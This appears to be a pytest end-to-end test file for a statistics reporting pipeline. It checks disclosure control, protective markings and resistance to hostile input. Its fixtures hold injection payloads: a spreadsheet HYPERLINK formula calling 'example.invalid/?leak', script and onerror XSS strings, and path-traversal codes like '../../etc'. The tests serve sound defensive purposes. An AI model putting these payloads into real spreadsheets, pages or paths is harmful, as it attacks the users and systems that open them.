"""Safe outputs, end to end: a run on hostile and sensitive data publishes no small number, runs
no script and no spreadsheet formula, and carries its protective marking on every page.

One module-wide build of the demo with:
- an LA named like a spreadsheet formula with a script after it, and a note that is a script;
- the indicator with the most small counts published to 3 decimals, so that every figure
  disclosure control withholds has a distinctive text to look for;
- a protective marking in dataset.yaml.
It is built twice, side by side: one region's latest quarter as published (suppressed: its regional
report and every pack of its LAs, whose trends hold every quarter's figures and whose statistical
neighbours come from every region; the validation pages of every return), and unsuppressed for that
region's latest report, to show that the scan does find the figures where they are not withheld.
One region is enough: every other region's report runs the same notebook on the same kind of rows,
and the 11 reports cost a third of the 33 of every region.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml

from tests.browser import visit
from tests.conftest import cli

pytestmark = pytest.mark.xdist_group("safe-outputs")
#: the tests that read the module's build, which runs every demo notebook
e2e = pytest.mark.e2e

LA, REGION, LATEST = "ZL102", "ZR1", "2026-27-Q2"
FORMULA_NAME = '=HYPERLINK("https://example.invalid/?leak","Brackenford")'
HOSTILE_NAME = f"{FORMULA_NAME} <script>alert('name')</script>"
SCRIPT_NOTE = "<script>alert(1)</script><img src=x onerror=\"alert('img')\"> see figures"
DISTINCT = "cpp_2_years_pct"  # most of the demo's small counts are here
MARKING = "OFFICIAL-SENSITIVE"
TEXT_FILES = (".html", ".ipynb", ".csv", ".json", ".xml")


def _start(*args, log: Path) -> subprocess.Popen:
    """`tartan ARGS` started in a process of its own, its output written to `log`."""
    with open(log, "wb") as out:
        return subprocess.Popen(
            [sys.executable, "-m", "pipeline", *map(str, args)], stdout=out, stderr=out
        )


def _finished(proc: subprocess.Popen, log: Path) -> None:
    assert proc.wait(timeout=1800) == 0, log.read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, demo_data):
    root = tmp_path_factory.mktemp("hostile")
    data, contracts = root / "data", root / "contracts"
    shutil.copytree(demo_data, data)
    shutil.copytree(Path(__file__).resolve().parents[1] / "data_contracts", contracts)
    meta = yaml.safe_load((data / "dataset.yaml").read_text(encoding="utf-8"))
    meta["protective_marking"] = MARKING
    (data / "dataset.yaml").write_text(yaml.safe_dump(meta), encoding="utf-8")
    las_path = data / "reference" / "local_authorities.csv"
    las = pd.read_csv(las_path, dtype=str, keep_default_na=False)
    las.loc[las["la_code"].eq(LA), "la_name"] = HOSTILE_NAME
    las.to_csv(las_path, index=False)
    cat_path = contracts / "indicators.yaml"
    cat = yaml.safe_load(cat_path.read_text(encoding="utf-8"))
    for ind in cat["indicators"]:
        if ind["id"] == DISTINCT:
            ind["decimals"] = 3
    cat_path.write_text(yaml.safe_dump(cat, sort_keys=False), encoding="utf-8")
    for path in sorted((data / "returns").rglob("*.csv")):
        rows = pd.read_csv(path, dtype=str, keep_default_na=False)
        mine = rows["indicator_id"].eq(DISTINCT) & rows["status"].eq("")
        num = pd.to_numeric(rows.loc[mine, "numerator"])
        den = pd.to_numeric(rows.loc[mine, "denominator"])
        rows.loc[mine, "value"] = [
            f"{round(n / d * 100, 3):g}" for n, d in zip(num, den, strict=True)
        ]
        if path.name.startswith(f"{LA}_{LATEST}"):  # every version: the demo's ZL102 has two
            rows.loc[0, "note"] = SCRIPT_NOTE
        rows.to_csv(path, index=False)

    published, unsuppressed = root / "published", root / "unsuppressed"
    runs = [
        (_start(
            "report", "--data", data, "--contracts", contracts, "--out", published,
            "--region", REGION, "--period", LATEST, "--no-progress", log=root / "published.log",
        ), root / "published.log"),
        (_start(
            "report", "--data", data, "--contracts", contracts, "--out", unsuppressed,
            "--unsuppressed", "--region", REGION, "--period", LATEST, "--packs", "none",
            "--no-progress", log=root / "unsuppressed.log",
        ), root / "unsuppressed.log"),
    ]  # fmt: skip

    from pipeline.orchestration.settings import Settings
    from tests.internals import published as disclosed
    from tests.internals import validate

    s = Settings(data=data, out=published, contracts=contracts)
    v, inputs = validate(s)
    _, sdc = disclosed(s, v, inputs)
    for proc, log in runs:
        _finished(proc, log)
    return {
        "data": data,
        "contracts": contracts,
        "published": published,
        "unsuppressed": unsuppressed,
        "removed": sdc.removed,
        "root": root,
    }


def _texts(folder: Path) -> dict[Path, str]:
    return {
        p: p.read_text(encoding="utf-8")
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.suffix in TEXT_FILES
    }


#: a figure to three decimals, standing alone: not inside a longer number
NUMBER = re.compile(r"(?<![\d.])\d+\.\d{3}(?![\d])")


def _found(tokens: set[str], text: str) -> set[str]:
    """Which of the tokens (each a figure to three decimals) the text holds, each standing alone.

    One pass over the text finds every such figure: a token stands alone where it is a match of
    NUMBER, and two matches cannot overlap (a match ends where no digit follows, and none starts
    after a digit or a point)."""
    return tokens & set(NUMBER.findall(text))


def _figures_csvs(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*.csv"))


@e2e
def test_no_file_of_the_run_holds_a_figure_that_disclosure_control_withheld(hostile):
    removed = hostile["removed"]
    values = removed[removed["field"].eq("value") & removed["indicator_id"].eq(DISTINCT)]
    assert len(values) >= 40, "the demo has small counts to withhold"
    assert set(removed["reason"]) == {"primary", "secondary"}
    # a published number (a figure, a mean, a change) may happen to equal a withheld figure:
    # that text is rightly there
    shown, periods, las = set(), set(), set()
    for path in _figures_csvs(hostile["published"]):
        f = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in f[f["indicator_id"].eq(DISTINCT)].items():
            shown |= {cell.lstrip("-") for cell in column[1]}
        periods |= set(f["period"]) if "period" in f else set()
        las |= set(f.loc[f["area_type"].eq("la"), "area_code"]) if "area_type" in f else set()
    # the latest quarter's reports show every quarter's figures (their trends), and the packs
    # their LAs' statistical neighbours, of every region: the scan below covers every period
    # and every LA with a figure withheld
    assert set(values["period"]) <= periods
    assert set(values["la_code"]) <= las and {la[:3] for la in las} == {"ZL1", "ZL2", "ZL3"}
    # three decimals make a figure's text distinctive (1.5 or 2 would be found anywhere)
    tokens = {f"{v:g}" for v in values["value"]} - shown
    tokens = {t for t in tokens if re.fullmatch(r"\d+\.\d{3}", t)}
    assert len(tokens) >= 30
    texts = _texts(hostile["published"])
    # the latest quarter's reports (html, ipynb, csv: the regional report and 10 packs),
    # validation pages (30 feedback pages, index, json, junit), index, manifest: 68
    assert len(texts) > 65
    leaks = [(t, p.name) for p in texts for t in sorted(_found(tokens, texts[p]))]
    assert leaks == []

    # the scan finds them where they are not withheld: ZR1's latest quarter, unsuppressed
    zr1 = values[values["period"].eq(LATEST) & values["la_code"].str.startswith("ZL1")]
    open_texts = "\n".join(_texts(hostile["unsuppressed"]).values())
    mine = {f"{v:g}" for v in zr1["value"]} & tokens
    assert mine and _found(mine, open_texts) == mine


@e2e
def test_every_withheld_cell_is_blank_and_c_in_every_figures_csv(hostile):
    removed = hostile["removed"]
    cells = set(zip(removed["la_code"], removed["period"], removed["indicator_id"], strict=True))
    checked = 0
    for path in _figures_csvs(hostile["published"]):
        f = pd.read_csv(path, dtype=str, keep_default_na=False)
        for row in f[f["area_type"].eq("la")].itertuples():
            if (row.area_code, row.period, row.indicator_id) in cells:
                assert (row.numerator, row.value, row.status) == ("", "", "c"), path
                checked += 1
    assert checked > 50


@e2e
def test_every_page_states_the_rule_and_carries_the_marking(hostile):
    pages = [p for p in hostile["published"].rglob("*.html")]
    assert len(pages) > 40  # the regional report, 10 packs, 30 feedback pages, 2 indexes
    for p in pages:
        html = p.read_text(encoding="utf-8")
        assert html.count(f'<p class="marking">{MARKING}</p>') == 2, p  # top and foot
        assert "Disclosure control" in html and "counts from 1 to 5" in html, p
        assert "Not for circulation" not in html, p
    for p in hostile["unsuppressed"].rglob("*.html"):
        html = p.read_text(encoding="utf-8")
        assert "Not for circulation: unsuppressed" in html, p
        assert "unsuppressed and not for circulation" in html, p  # its footer says so too


@e2e
def test_no_csv_cell_is_a_formula_and_the_formula_name_is_kept_as_text(hostile):
    starts = ("=", "+", "-", "@", "\t", "\r")
    named = 0
    for path in _figures_csvs(hostile["published"]):
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(starts):
                        float(cell)  # only a (negative) number may start so
                    named += cell == "'" + HOSTILE_NAME
    assert named > 0


@e2e
def test_the_return_template_for_an_la_named_like_a_formula_holds_no_formula(
    hostile, tmp_path, capfd
):
    import openpyxl

    out = tmp_path / "template.xlsx"
    done = cli(
        capfd,
        "template", "--la", LA, "--period", LATEST, "--data", hostile["data"],
        "--contracts", hostile["contracts"], "--out", out,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert book["Return"]["A1"].value.startswith("'" + FORMULA_NAME)


@e2e
@pytest.mark.browser
def test_the_script_note_and_formula_name_render_as_text_in_the_browser(hostile, browser):
    out = hostile["published"]
    pages = [
        out / LATEST / REGION / LA / "self-assessment.html",
        out / LATEST / REGION / "regional-benchmark.html",
        out / "index.html",
        out / "validation" / "feedback" / f"{LA}.html",
    ]
    for path in pages:
        v = visit(browser, path, javascript=True, page_csp=False)
        v.page.wait_for_timeout(300)
        text = v.page.inner_text("body")
        assert v.dialogs == [], path
        assert v.page.evaluate("document.scripts.length") == 0, path
        assert v.page.evaluate("document.querySelectorAll('[onerror]').length") == 0, path
        assert v.console_errors == [], path
        assert HOSTILE_NAME in text, path  # shown as written
        if path.name == "self-assessment.html":
            assert SCRIPT_NOTE in text
        v.page.context.close()


def test_a_reference_code_that_would_name_a_path_is_refused_and_nothing_is_written(
    tiny, tmp_path, capfd
):
    data = tiny.copy(tmp_path / "data")
    las_path = data.data / "reference" / "local_authorities.csv"
    las = pd.read_csv(las_path, dtype=str, keep_default_na=False)
    las.loc[las["la_code"].eq("ZL101"), "la_code"] = "../../etc"
    las.loc[las["la_code"].eq("ZL108"), "region_code"] = "ZR1/../../x"
    las.to_csv(las_path, index=False)
    out = tmp_path / "out"
    done = cli(capfd, "report", *data.args, "--out", out, "--no-progress")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "la_code '../../etc' is not a code; expected letters and digits only" in done.stderr
    assert "region_code 'ZR1/../../x' is not a code" in done.stderr
    assert not out.exists() and not (tmp_path / "etc").exists()
